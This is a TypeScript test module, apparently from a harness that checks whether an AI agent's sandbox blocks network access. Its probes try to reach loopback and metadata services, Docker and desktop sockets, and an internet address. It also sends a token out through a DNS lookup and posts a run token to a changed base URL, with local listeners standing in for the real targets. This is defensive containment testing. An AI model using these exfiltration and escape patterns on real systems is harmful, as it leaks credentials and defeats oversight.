import type { ProbeGround } from "./ground.ts";
import type { Probe } from "./probe.ts";
import type { ProbeSite } from "./site.ts";

/** Connects to each target and says what came: the answer, an error's code, or that nothing came back at all. */
const connect = `const { connect } = require("node:net");
const one = (target) => new Promise((done) => {
  let answer = "";
  const socket = connect(target);
  const end = (words) => { socket.destroy(); done((target.host ?? "socket") + ": " + words); };
  socket.setTimeout(5000, () => end("went-out, and nothing came back"));
  socket.on("connect", () => socket.write("GET / HTTP/1.0\\r\\n\\r\\n"));
  socket.on("data", (data) => { answer += data; });
  socket.on("end", () => end("went-out " + answer));
  socket.on("error", ({ code }) => end(answer === "" ? code : "went-out " + answer));
});
Promise.all(JSON.parse(process.env.PROBE_TARGETS).map(one)).then((all) => console.log(all.join("\\n")));`;

type Target = { readonly host: string; readonly port: number } | { readonly path: string };

const wentOut = "went-out";

const connects =
  (targets: (ground: ProbeGround, where: ProbeSite["where"]) => readonly Target[]): Probe["attempt"] =>
  async (site, ground) => {
    const output = await site.script({
      script: 'node -e "$PROBE_CODE"',
      says: /^\S+: (\w+|went-out)/m,
      env: { PROBE_CODE: connect, PROBE_TARGETS: JSON.stringify(targets(ground, site.where)) },
    });
    const reached = output.includes(wentOut);
    return { reached, detail: reached && output.includes(ground.token) ? "the canary answered" : output };
  };

const loopback = ({ loopback: { port } }: ProbeGround): Target => ({ host: "127.0.0.1", port });

/** Where a listener of the host stands for an address that must not be called for a test. */
const standsFor = (ground: ProbeGround): Target =>
  ground.network === null ? loopback(ground) : { host: ground.network.host, port: ground.network.server.port };

/** Asks a name server by itself, past everything that the system has set up. */
const resolve = `const { Resolver } = require("node:dns").promises;
const resolver = new Resolver({ timeout: 1000, tries: 1 });
resolver.setServers([process.env.PROBE_SERVER]);
resolver.resolve4(process.env.PROBE_LABEL + ".example").then(console.log, ({ code }) => console.log(code));`;

/** Sends its token to a base URL that it was not given. */
const callElsewhere = `fetch(process.env.ANTHROPIC_BASE_URL + "/v1/messages", {
  method: "POST", body: "{}", headers: { authorization: "Bearer " + process.env.PROBE_RUN_TOKEN },
}).then(({ status }) => console.log("HTTP", status), ({ cause }) => console.log(cause?.code ?? "failed"));`;

/** A secret of the sandbox's own, as the token of a run is. */
export const runTokenOf = (site: ProbeSite, { token }: ProbeGround): string =>
  `run-${site.name}-${site.where}-${token}`;

/** What can be called. */
export const networkProbes: readonly Probe[] = [
  {
    name: "host-loopback",
    title: "Call a service on this machine's loopback address (a database, for example)",
    cases: [49],
    attempt: connects((ground) => [loopback(ground), { host: "::1", port: ground.loopback.port }]),
  },
  {
    name: "own-network",
    title: "Call this machine at its address in its network",
    cases: [49],
    notHere: ({ network }) => (network === null ? "This machine has no address but loopback." : null),
    attempt: connects((ground) => [standsFor(ground)]),
  },
  {
    name: "metadata-address",
    title: "Call a cloud's metadata service (169.254.169.254; outside, a listener of this machine's stands for it)",
    cases: [50],
    attempt: connects((ground, where) => [
      standsFor(ground),
      ...(where === "inside" ? [{ host: "169.254.169.254", port: 80 }] : []),
    ]),
  },
  {
    name: "internet",
    title:
      "Call an address of the internet (198.51.100.1, nobody's; outside, a listener of this machine's stands for it)",
    cases: [49],
    attempt: connects((ground, where) => [
      standsFor(ground),
      ...(where === "inside" ? [{ host: "198.51.100.1", port: 443 }] : []),
    ]),
  },
  {
    name: "unix-socket",
    title: "Use a service's unix socket (Docker's, for example)",
    cases: [47, 49],
    attempt: connects(({ socketPath }) => [{ path: socketPath }]),
  },
  {
    name: "abstract-socket",
    title: "Use a service's abstract socket (the desktop's, for example)",
    cases: [47, 49],
    attempt: connects(({ abstractSocket }) => [{ path: abstractSocket }]),
  },
  {
    name: "name-server",
    title: "Send data out as the name of a host that is looked up",
    cases: [51],
    attempt: async (site, ground) => {
      const label = `${site.where}-${ground.token}`;
      const output = await site.script({
        script: 'node -e "$PROBE_CODE"',
        says: /^E[A-Z]+$/m,
        env: { PROBE_CODE: resolve, PROBE_LABEL: label, PROBE_SERVER: `127.0.0.1:${ground.names.port}` },
      });
      return { reached: ground.names.heard(label), detail: output };
    },
  },
  {
    name: "changed-base-url",
    title: "Send the run's token to another address than the gateway's",
    cases: [48, 60],
    attempt: async (site, ground) => {
      const runToken = runTokenOf(site, ground);
      const output = await site.script({
        script: 'node -e "$PROBE_CODE"',
        says: /^(HTTP \d+|[A-Z_]+|failed)$/m,
        env: {
          PROBE_CODE: callElsewhere,
          PROBE_RUN_TOKEN: runToken,
          ANTHROPIC_BASE_URL: `http://127.0.0.1:${ground.loopback.port}`,
        },
      });
      return { reached: ground.loopback.heard(runToken), detail: output };
    },
  },
];
